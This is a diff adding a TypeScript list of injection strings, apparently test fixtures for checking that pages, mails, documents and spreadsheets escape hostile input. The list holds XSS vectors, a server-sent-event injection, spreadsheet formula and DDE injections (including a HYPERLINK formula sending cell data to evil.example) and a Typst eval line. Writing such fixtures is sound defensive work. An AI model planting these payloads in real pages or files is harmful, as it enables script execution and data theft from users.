@@ -1,0 +1,23 @@
+/** What somebody writes, or is called, who wants a page, a mail, a paper or a sheet to do something. */
+export const HOSTILE_TEXTS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '"><svg onload=alert(1)>',
+  "' onmouseover='alert(1)",
+  '</p></title></textarea><iframe src="javascript:alert(1)">',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'https://evil.example/"onclick="alert(1)',
+  "https://evil.example/'><script>alert(1)</script>",
+  'https://evil.example/commission-note/0199f3a0-0000-7000-8000-000000000001"><b onclick=alert(1)>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '<a href="jav\tascript:alert(1)">x</a>',
+  'alert(1)\r\n\r\nevent: notice\r\ndata: {"UnreadCount":alert(1)}\r\n\r\n',
+  '=HYPERLINK("https://evil.example/?"&A1,"alert(1)")',
+  "=cmd|'/c alert(1)'!A1",
+  '+alert(1)',
+  '-alert(1)',
+  '@SUM(alert(1))',
+  '\t=alert(1)',
+  '#link("https://evil.example")[alert(1)] $x$ #eval("1")',
+] as const
